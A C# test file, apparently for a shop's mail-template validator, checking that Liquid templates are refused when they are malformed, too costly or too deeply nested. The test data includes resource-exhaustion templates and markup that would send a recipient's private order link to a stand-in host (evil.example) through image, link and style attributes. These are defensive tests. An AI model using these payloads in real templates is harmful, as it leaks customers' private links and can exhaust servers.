using System.Diagnostics;

namespace ClickCart.Tests.Notifications.Templates;

public sealed class ChangeMailTemplateTests(SharedShop shared) : TemplateTest(shared)
{
    [Theory]
    [InlineData("a\n{{ order.number", "Line 2: ")]
    [InlineData("a\n\n{% if a %}b", "Line 3: ")]
    [InlineData("a\n{% frob %}", "Line 2: There is no tag frob")]
    [InlineData("a\n{{ order.number | frob }}", "Line 2: There is no filter frob")]
    [InlineData("a\n{{ order.number | raw }}", "Line 2: Values are always escaped")]
    [InlineData("a\n{% for i in (1..1000000) %}{% for j in (1..1000000) %}x{% endfor %}{% endfor %}", "Line 2: A range")]
    [InlineData("{% assign n = 2000000000 %}\n{% for i in (1..n) %}{% endfor %}", "Line 2: A range")]
    [InlineData("a\n{% for i in (1..1000) %}{% for j in (1..1000) %}{% endfor %}{% endfor %}", "Line 2: It takes more than 50,000 steps")]
    [InlineData("{% assign a = 'x' %}{% for i in (1..100) %}{% assign a = a | append: a %}{% endfor %}", "Line 1: What the filter append")]
    [InlineData("{% assign a = 'x' %}{% for i in (1..100) %}{% capture a %}{{ a }}{{ a }}{% endcapture %}{% endfor %}", "Line 1: It writes more than")]
    [InlineData("{{ 1 | divided_by: 0 }}", "")]
    [InlineData("{% include 'nothing' %}", "There is no piece 'nothing'")]
    [InlineData("{% for i in (1..1000) %}<br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br><br>{% endfor %}", "Line 1: It has more than")]
    public async Task What_cannot_be_read_or_goes_beyond_its_bounds_is_refused_with_line_and_reason(string html, string reason)
    {
        var began = Stopwatch.GetTimestamp();
        var answer = (await WriteAsync("delivered/en", html)).ShouldBeInvalid("html");
        answer["errors"].GetProperty("html")[0].GetString()!.ShouldStartWith(reason);
        Stopwatch.GetElapsedTime(began).ShouldBeLessThan(TimeSpan.FromMinutes(1));
    }

    [Theory]
    [InlineData("<img src=\"https://evil.example/p.png?u={{ order.link }}\">")]
    [InlineData("<a href=\"https://evil.example/go?x={{ order.link }}&amp;y=1\">here</a>")]
    [InlineData("<p style=\"background:url({{ order.link }})\">x</p>")]
    [InlineData("<a href=\"mailto:a@evil.example?body={{ link }}\">here</a>")]
    [InlineData("<a title=\"{{ link }}\" href=\"https://a.example\">here</a>")]
    [InlineData("<a href=\"{{ link }}x\">here</a>")]
    [InlineData("<p>https://evil.example/?u={{ link }}</p>")]
    [InlineData("<p>{{ link | upcase }}</p>")]
    [InlineData("<p>{{ link | url_encode }}</p>")]
    public async Task The_recipients_link_leads_to_its_page_alone(string html)
    {
        (await WriteAsync("delivered/en", html)).ShouldBeInvalid("html")["errors"].GetProperty("html")[0].GetString()!.ShouldContain("the recipient's alone");
        const string right = "<p><a href=\"{{ order.link }}\">Here</a>, or ({{ link }}).</p>";
        (await Admin.PostAsync($"{Root}/delivered/en/preview", new { html = right })).ShouldBe(200);
    }

    [Theory]
    [InlineData("{% if a %}", "{% endif %}", 5000)]
    [InlineData("{% case 1 %}{% when 1 %}", "{% endcase %}", 3000)]
    [InlineData("<b>", "</b>", 10_000)]
    public async Task What_lies_deep_in_itself_is_refused_and_no_process_dies(string open, string close, int deep) =>
        (await WriteAsync("delivered/en", string.Concat(Enumerable.Repeat(open, deep)) + "x" + string.Concat(Enumerable.Repeat(close, deep))))
            .ShouldBeInvalid("html");

    [Theory]
    [InlineData("(", ".", 99_000, null)]
    [InlineData("{{ order", ".size", 19_000, "A name has at most 30 parts")]
    [InlineData("{{ order", " . size", 14_000, "A name has at most 30 parts")]
    [InlineData("{{ order", ".b", 45_000, "A name has at most 30 parts")]
    public async Task What_is_long_is_looked_at_within_a_moment(string open, string part, int times, string? reason)
    {
        var began = Stopwatch.GetTimestamp();
        var html = open + string.Concat(Enumerable.Repeat(part, times)) + (reason is null ? "" : " }}");
        var answer = await Admin.PostAsync($"{Root}/delivered/en/preview", new { html });
        if (reason is null) answer.ShouldBe(200);
        else answer.ShouldBeInvalid("html")["errors"].GetProperty("html")[0].GetString()!.ShouldContain(reason);
        Stopwatch.GetElapsedTime(began).ShouldBeLessThan(TimeSpan.FromMinutes(1));
    }

    [Fact]
    public async Task Elements_that_are_not_closed_are_not_put_into_thousands_of_paragraphs()
    {
        var began = Stopwatch.GetTimestamp();
        var open = string.Concat(Enumerable.Range(1, 140).Select(i => $"<b id={i}>"));
        (await WriteAsync("delivered/en", $"<p>{open}</p>{{% for i in (1..20) %}}{{% for j in (1..1000) %}}<p>x</p>{{% endfor %}}{{% endfor %}}"))
            .ShouldBeInvalid("html")["errors"].GetProperty("html")[0].GetString()!.ShouldContain("are not closed");
        Stopwatch.GetElapsedTime(began).ShouldBeLessThan(TimeSpan.FromMinutes(1));
        const string closed = "{% for i in (1..100) %}<p><b>x</b> <a href=\"https://a.example\">y</a></p>{% endfor %}";
        (await Admin.PostAsync($"{Root}/delivered/en/preview", new { html = closed })).ShouldBe(200);
    }

    [Fact]
    public async Task It_is_saved_for_its_version_and_names_what_no_mail_of_the_kind_has()
    {
        var before = await Admin.GetAsync($"{Root}/delivered/de");
        before["isEdited"].GetBoolean().ShouldBeFalse();
        var saved = (await WriteAsync("delivered/de", "<p>{{ order.number }}</p>\n<p>{{ order.nmber }}</p><script>x</script>", ifMatch: before.ETag))
            .ShouldBe(200);
        saved["isEdited"].GetBoolean().ShouldBeTrue();
        saved["warnings"][0].GetProperty("line").GetInt32().ShouldBe(2);
        saved["warnings"][0].GetProperty("reason").GetString()!.ShouldContain("order.nmber");
        saved["warnings"][1].GetProperty("reason").GetString()!.ShouldContain("<script>");
        (await WriteAsync("delivered/de", ifMatch: before.ETag)).ShouldBeProblem(412, "stale-version");
        (await WriteAsync("delivered/de", subject: " ")).ShouldBeInvalid("subject");
        (await WriteAsync("delivered/de", new string('ä', 60_000))).ShouldBeInvalid("html");
        (await WriteAsync("delivered/fr")).ShouldBe(404);
        (await ResetAsync("delivered/de")).ShouldBe(204);
    }
}
